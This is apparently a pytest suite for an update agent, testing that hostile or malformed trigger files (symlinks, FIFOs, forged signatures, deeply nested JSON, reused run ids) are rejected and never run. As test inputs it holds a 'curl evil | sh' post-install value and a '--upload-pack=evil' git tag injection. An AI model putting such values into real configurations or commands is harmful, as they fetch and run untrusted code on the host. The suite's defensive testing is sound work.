"""Hostile and malformed triggers are rejected with a reason, moved aside, and never run (SPEC §5)."""

from __future__ import annotations

import base64
import json
import os

import pytest

from testing.agent import manifest_body, run_agent, sign, trigger_fields, write_trigger


def rejection_reason(project) -> str:
    reasons = sorted((project.state_dir / "rejected").glob("*.reason"))
    assert reasons, "the trigger was not moved to rejected/"
    return reasons[-1].read_text()


def assert_rejected(project, backend, done, reason_part: str, run_id: str | None = None) -> None:
    assert done.returncode == 2, done.stderr
    assert reason_part in rejection_reason(project)
    assert not os.path.lexists(project.updates / "trigger")
    assert project.manage_log() == []
    assert project.head() == project.commits["1.1.5"]
    if run_id is not None:
        assert backend.final_state(run_id) == "failed"
        assert reason_part in backend.run_events(run_id)[-1]["message"]


def test_a_symlinked_trigger_is_rejected(project, backend, tmp_path):
    target = tmp_path / "elsewhere.json"
    target.write_text(json.dumps(trigger_fields("1.2.0")))
    project.updates.mkdir(parents=True)
    (project.updates / "trigger").symlink_to(target)

    assert_rejected(project, backend, run_agent(project, backend), "symbolic link")
    assert target.exists()  # the link's target is never touched


def test_a_hardlinked_trigger_is_rejected(project, backend, tmp_path):
    fields = trigger_fields("1.2.0")
    other = tmp_path / "other.json"
    other.write_text(json.dumps(fields))
    project.updates.mkdir(parents=True)
    os.link(other, project.updates / "trigger")

    # Its content is not read at all, so there is no run id to report to.
    assert_rejected(project, backend, run_agent(project, backend), "hard links")
    assert other.exists()


def test_a_fifo_trigger_is_rejected_without_hanging(project, backend):
    project.updates.mkdir(parents=True)
    os.mkfifo(project.updates / "trigger")

    assert_rejected(project, backend, run_agent(project, backend), "not a regular file")


def test_an_oversized_trigger_is_rejected(project, backend):
    fields = trigger_fields("1.2.0")
    fields["requested_by"] = "x" * (600 * 1024)
    fields["signature"] = sign({k: v for k, v in fields.items() if k != "signature"})
    write_trigger(project, fields)

    assert_rejected(project, backend, run_agent(project, backend), "limit 524288")


def test_a_bad_signature_is_rejected(project, backend):
    fields = trigger_fields("1.2.0")
    fields["target_version"] = "1.2.0"
    fields["requested_by"] = "someone-else"  # changed after signing
    run_id = write_trigger(project, fields)

    assert_rejected(project, backend, run_agent(project, backend), "bad signature", run_id)


def test_an_unknown_field_is_rejected(project, backend):
    fields = trigger_fields("1.2.0", post_install="curl evil | sh")
    run_id = write_trigger(project, fields)

    assert_rejected(project, backend, run_agent(project, backend), "unknown field(s): post_install", run_id)


def test_a_version_the_manifest_does_not_offer_is_rejected(project, backend):
    fields = trigger_fields("1.2.0", manifest=manifest_body("1.1.9"))
    run_id = write_trigger(project, fields)

    assert_rejected(project, backend, run_agent(project, backend), "not offered", run_id)


def test_a_reused_run_id_is_rejected_and_not_reported_into_the_old_run(project, backend):
    first = write_trigger(project, trigger_fields("1.2.0"))
    assert run_agent(project, backend).returncode == 0
    events_before = len(backend.run_events(first))
    # Even a correctly signed trigger for a newer release may not reuse the id.
    project.add_release("1.3.0")
    write_trigger(project, trigger_fields("1.3.0", run_id=first))

    done = run_agent(project, backend)

    assert done.returncode == 2
    assert "already used" in rejection_reason(project)
    assert project.head() == project.commits["1.2.0"]
    assert len(backend.run_events(first)) == events_before


@pytest.mark.parametrize(
    ("payload", "reason"),
    [
        (b"\xff\xfe not json", "the trigger is not JSON (not UTF-8 text"),
        (b"[1, 2]", "not a JSON object"),
        # A fixed id: xdist workers must all collect the same test ids.
        (json.dumps({"run_id": "0d6f3c2a-5b1e-4f7a-9c3d-8e2b1a4f6c5d"}).encode(), "missing field(s)"),
    ],
)
def test_malformed_triggers_are_rejected(project, backend, payload, reason):
    write_trigger(project, payload)

    assert_rejected(project, backend, run_agent(project, backend), reason)


def test_a_tag_name_that_could_be_an_option_is_rejected(project, backend):
    manifest = json.dumps({"schema": 1, "project": "opentrace", "releases": [{"version": "1.2.0"}]}).encode()
    fields = trigger_fields("1.2.0", manifest=manifest, git_tag="--upload-pack=evil")
    run_id = write_trigger(project, fields)

    assert_rejected(project, backend, run_agent(project, backend), "not a plain tag name", run_id)


class TestPinnedKeys:
    @pytest.fixture
    def signing_key(self):
        from cryptography.hazmat.primitives.asymmetric.ed25519 import Ed25519PrivateKey
        from cryptography.hazmat.primitives.serialization import Encoding, PublicFormat

        key = Ed25519PrivateKey.generate()
        public = key.public_key().public_bytes(Encoding.Raw, PublicFormat.Raw)
        return key, f"k1:{base64.b64encode(public).decode()}"

    def envelope(self, key, inner: bytes, keyid: str = "k1") -> bytes:
        signature = base64.b64encode(key.sign(inner)).decode()
        return json.dumps(
            {"signed": base64.b64encode(inner).decode(), "signatures": [{"keyid": keyid, "sig": signature}]}
        ).encode()

    def test_a_manifest_signed_with_a_pinned_key_is_accepted(self, project, backend, signing_key):
        key, pinned = signing_key
        run_id = write_trigger(
            project, trigger_fields("1.2.0", manifest=self.envelope(key, manifest_body("1.2.0")))
        )

        done = run_agent(project, backend, OPENTRACE_REGISTRY_KEYS=pinned)

        assert done.returncode == 0, done.stderr
        assert backend.final_state(run_id) == "succeeded"

    def test_an_unsigned_manifest_is_rejected_when_keys_are_pinned(self, project, backend, signing_key):
        _, pinned = signing_key
        run_id = write_trigger(project, trigger_fields("1.2.0"))

        done = run_agent(project, backend, OPENTRACE_REGISTRY_KEYS=pinned)

        assert_rejected(project, backend, done, "manifest: the document is not signed", run_id)

    def test_a_manifest_signed_with_another_key_is_rejected(self, project, backend, signing_key):
        from cryptography.hazmat.primitives.asymmetric.ed25519 import Ed25519PrivateKey

        _, pinned = signing_key
        forged = self.envelope(Ed25519PrivateKey.generate(), manifest_body("1.2.0"))
        run_id = write_trigger(project, trigger_fields("1.2.0", manifest=forged))

        done = run_agent(project, backend, OPENTRACE_REGISTRY_KEYS=pinned)

        assert_rejected(project, backend, done, "manifest: the signature by 'k1' does not verify", run_id)


def test_a_trigger_replaced_between_verification_and_claim_is_left_for_the_next_read(project):
    from host_agent.dropbox import DropBox

    write_trigger(project, trigger_fields("1.2.0"))
    box = DropBox(project.updates, {os.geteuid()})
    verified = box.read()
    newer = write_trigger(project, trigger_fields("1.2.0"))  # the backend withdrew and re-requested

    assert box.remove(verified.identity) is False
    assert json.loads((project.updates / "trigger").read_text())["run_id"] == newer
    box.close()


def _signed_with_manifest(manifest: bytes) -> dict:
    return trigger_fields("1.2.0", manifest=manifest)


# Each of these once killed the agent before any secret was needed; since the file stayed in
# place, every restart died on it again. Now each is rejected and the next trigger still runs.
@pytest.mark.parametrize(
    ("make_trigger", "reason"),
    [
        pytest.param(
            lambda: b"[" * 50000, "the trigger is not JSON (nested too deeply)", id="deeply-nested-trigger"
        ),
        pytest.param(
            # json.dumps escapes it, so the file is plain ASCII; the parsed field is a lone surrogate.
            lambda: json.dumps({**trigger_fields("1.2.0"), "requested_by": "\ud800"}).encode(),
            "lone surrogate",
            id="lone-surrogate-in-a-field",
        ),
        pytest.param(
            lambda: _signed_with_manifest(b"[" * 50000),
            # No keys pinned: the agent reads the registry (serving the same bytes), not the copy.
            "the registry's document: the document is not JSON (nested too deeply)",
            id="deeply-nested-manifest",
        ),
        pytest.param(
            lambda: _signed_with_manifest(
                json.dumps({"signed": base64.b64encode(b"not json").decode(), "signatures": []}).encode()
            ),
            "the registry's document: the signed document is not JSON",
            id="envelope-whose-signed-part-is-not-json",
        ),
    ],
)
def test_a_trigger_the_json_reader_chokes_on_is_rejected_and_the_agent_carries_on(
    project, backend, make_trigger, reason
):
    hostile = make_trigger()
    write_trigger(project, hostile)

    done = run_agent(project, backend)

    assert "Traceback" not in done.stderr
    run_id = hostile["run_id"] if isinstance(hostile, dict) else None
    assert_rejected(project, backend, done, reason, run_id)
    following = write_trigger(project, trigger_fields("1.2.0"))
    assert run_agent(project, backend).returncode == 0
    assert backend.final_state(following) == "succeeded"
